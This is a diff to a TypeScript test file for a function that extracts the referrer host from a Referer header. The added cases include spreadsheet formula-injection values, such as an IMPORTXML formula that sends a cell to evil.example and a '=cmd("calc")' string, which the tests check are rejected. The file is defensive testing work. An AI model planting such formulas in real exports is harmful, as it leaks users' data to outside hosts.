@@ -1,11 +1,14 @@
 /**
  * The referrer a visit keeps (docs/architecture.md, the visit classification): the host of
  * `Referer` in lower case, never its path, query, user or port; `null` for none, for a string that
- * is no URL, and for a scheme that is neither the web's nor an Android app's.
+ * is no URL, for a scheme that is neither the web's nor an Android app's, and for a host holding
+ * what no host can (a spreadsheet formula); IPv4 written as the URL parser writes it. The visits
+ * import takes exactly the hosts this gives.
  */
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { MAX_HOST_LENGTH, referrerHost } from '../../src/visits/referrer.ts';
+import fc from 'fast-check';
+import { isReferrerHost, MAX_HOST_LENGTH, referrerHost } from '../../src/visits/referrer.ts';
 
 const CASES: readonly [string | undefined, string | null][] = [
   ['https://news.ycombinator.com/item?id=1', 'news.ycombinator.com'],
@@ -22,6 +25,13 @@ const CASES: readonly [string | undefined, string | null][] = [
   ['https://bücher.de/', 'xn--bcher-kva.de'],
   ['http://[2001:DB8::1]:8080/', '[2001:db8::1]'],
   ['http://192.0.2.1/', '192.0.2.1'],
+  // IPv4 as the URL parser writes it, whatever the spelling.
+  ['http://0x7f.1/', '127.0.0.1'],
+  ['http://1.2.3/', '1.2.0.3'],
+  ['http://3232235777/', '192.168.1.1'],
+  ['http://[::ffff:1.2.3.4]/', '[::ffff:102:304]'],
+  ['http://999.1.1.1/', null],
+  ['https://-x.example/', '-x.example'],
   ['android-app://com.google.android.gm/', 'com.google.android.gm'],
   ['android-app://com.Slack', 'com.slack'],
   // None, or nothing worth keeping.
@@ -38,6 +48,20 @@ const CASES: readonly [string | undefined, string | null][] = [
   ['data:text/html,hello', null],
   ['ftp://example.com/', null],
   [`https://${'a'.repeat(60)}.${'b'.repeat(60)}.${'c'.repeat(60)}.${'d'.repeat(60)}.${'e'.repeat(10)}/`, null],
+  // Hosts the URL parser lets through but no host holds: a formula a spreadsheet would run.
+  ['http://=importxml(concat("http",char(58),"//evil.example/?",A1))/', null],
+  ['https://=HYPERLINK("evil.example","x")/', null],
+  ['http://%3D1%2B1.example/', null],
+  ['http://@SUM(1)/', null],
+  ['http://+1/', null],
+  ['http://a"b.example/', null],
+  ['http://a,b.example/', null],
+  ["http://a'b.example/", null],
+  ['http://exa$mple.com/', null],
+  ['http://a*b~c!d;e{f}g`h/', null],
+  ['http://a..b/', null],
+  ['android-app://=cmd("calc")/', null],
+  ['android-app://com.example.my_app/', 'com.example.my_app'],
 ];
 
 test('each Referer gives its host or null', () => {
@@ -50,4 +74,54 @@ test('a host of the longest DNS length is kept, one character more is not', () =
   assert.equal(longest.length, MAX_HOST_LENGTH);
   assert.equal(referrerHost(`https://${longest}/`), longest);
   assert.equal(referrerHost(`https://${longest}b/`), null);
+});
+
+/** The characters a kept host may hold. */
+const HOST = /^(?:[a-z0-9_-]+(?:\.[a-z0-9_-]+)*|\[[0-9a-f:]+\])$/;
+
+test('whatever the Referer, a kept host holds only letters, digits, - _ . or is [IPv6]; the import takes it back', () => {
+  const unit = fc.constantFrom('a', 'Z', '0', '9', '.', '-', '_', '=', '(', ')', '"', "'", ',', '+', '@', '%', '3', 'D', ':', '[', ']', '!', '$', '&', '*', ';', '~', '{', 'é', 'ß', '。', '\t');
+  const host = fc.string({ unit, minLength: 1, maxLength: 16 });
+  const scheme = fc.constantFrom('http://', 'https://', 'HTTP://', 'android-app://');
+  fc.assert(
+    fc.property(scheme, host, fc.constantFrom('/', '', '/p?q=1', ':8080/'), (s, h, rest) => {
+      const kept = referrerHost(s + h + rest);
+      if (kept === null) return;
+      assert.match(kept, HOST, JSON.stringify(s + h + rest));
+      assert.equal(isReferrerHost(kept), true, kept);
+    }),
+    { numRuns: 5000 },
+  );
+});
+
+test('the import takes a referrer only in the form a visit records', () => {
+  const taken = ['news.example', 'sub_domain.example.com', 'xn--bcher-kva.de', '192.0.2.1', '[2001:db8::1]', '[::ffff:102:304]', 'com.google.android.gm', '-x.example', 'localhost', 'a'.repeat(MAX_HOST_LENGTH)];
+  for (const host of taken) assert.equal(isReferrerHost(host), true, host);
+  const refused = [
+    '=importxml(concat("http",char(58)))',
+    '=1+1',
+    '@SUM(1)',
+    '+1',
+    "'=1+1",
+    'a(b)',
+    'a"b',
+    'a,b',
+    'exa$mple.com',
+    'News.Example', // the import lower-cases first
+    'bücher.de',
+    '[2001:DB8::1]',
+    '[2001:db8:0:0:0:0:0:1]',
+    '[::ffff:1.2.3.4]',
+    'example.com.',
+    'a..b',
+    '.a',
+    'news.example/path',
+    'news.example:8080',
+    'user@news.example',
+    'a b',
+    'a\tb',
+    '',
+    'a'.repeat(MAX_HOST_LENGTH + 1),
+  ];
+  for (const host of refused) assert.equal(isReferrerHost(host), false, JSON.stringify(host));
 });
